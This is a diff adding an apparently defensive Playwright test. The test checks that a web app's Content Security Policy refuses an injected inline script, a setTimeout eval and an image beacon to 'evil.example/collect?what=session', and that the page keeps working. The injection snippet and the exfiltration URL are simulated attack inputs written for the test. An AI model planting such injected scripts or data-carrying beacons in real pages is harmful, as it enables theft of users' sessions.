@@ -1,6 +1,7 @@
 import type { Page } from 'playwright-core';
 import type { Stack } from '../../scripts/stack';
 import { checkA11y, PHONE_VIEWPORT, signIn, useBrowser } from '../support/browser';
+import { eventually } from '../support/eventually';
 import { startLocalTestStack } from '../support/stackHarness';
 
 /**
@@ -103,4 +104,44 @@ it('takes a customer to their cases, and shows staff pages to staff only', async
   await page.goto(`${stack.apiUrl}/console`);
   await page.getByRole('heading', { level: 1, name: 'Not for your role' }).waitFor();
   await checkA11y(page);
+});
+
+it('runs only the scripts it came with: a script, an eval and an image from elsewhere slipped into the page are refused and reported', async () => {
+  const page = await browser.newPage();
+  await page.goto(`${stack.apiUrl}/sign-in`);
+  await page.getByLabel('Sign in as').waitFor();
+  // The page itself got under its policy everything it needed.
+  expect(browser.takeReported(page)).toEqual([]);
+
+  // As markup that got into the page would: an inline script, code from a string, an image that carries data away.
+  await page.evaluate(() => {
+    const { document, setTimeout } = globalThis as unknown as {
+      document: { createElement(tag: string): { textContent: string; src: string }; body: { append(node: unknown): void } };
+      setTimeout(code: string, ms: number): void;
+    };
+    const script = document.createElement('script');
+    script.textContent = 'globalThis.injected = "inline"';
+    document.body.append(script);
+    setTimeout('globalThis.injected = "eval"', 0);
+    const image = document.createElement('img');
+    image.src = 'https://evil.example/collect?what=session';
+    document.body.append(image);
+  });
+
+  const reported: string[] = [];
+  const violations = () => reported.filter((r) => r.startsWith('console error: CSP violation:')).sort();
+  await eventually(async () => {
+    reported.push(...browser.takeReported(page));
+    expect(violations()).toHaveLength(3);
+  }, 10_000);
+  expect(violations()).toEqual([
+    'console error: CSP violation: img-src refused https://evil.example/collect?what=session',
+    'console error: CSP violation: script-src refused eval',
+    'console error: CSP violation: script-src-elem refused inline',
+  ]);
+  expect(await page.evaluate<unknown>('globalThis.injected')).toBeUndefined();
+  // And the page works on: signing in still takes an agent to the console.
+  browser.takeReported(page);
+  await signIn(page, stack.apiUrl, 'agent', 'agent-ana');
+  await page.getByRole('heading', { level: 1, name: 'My work' }).waitFor();
 });
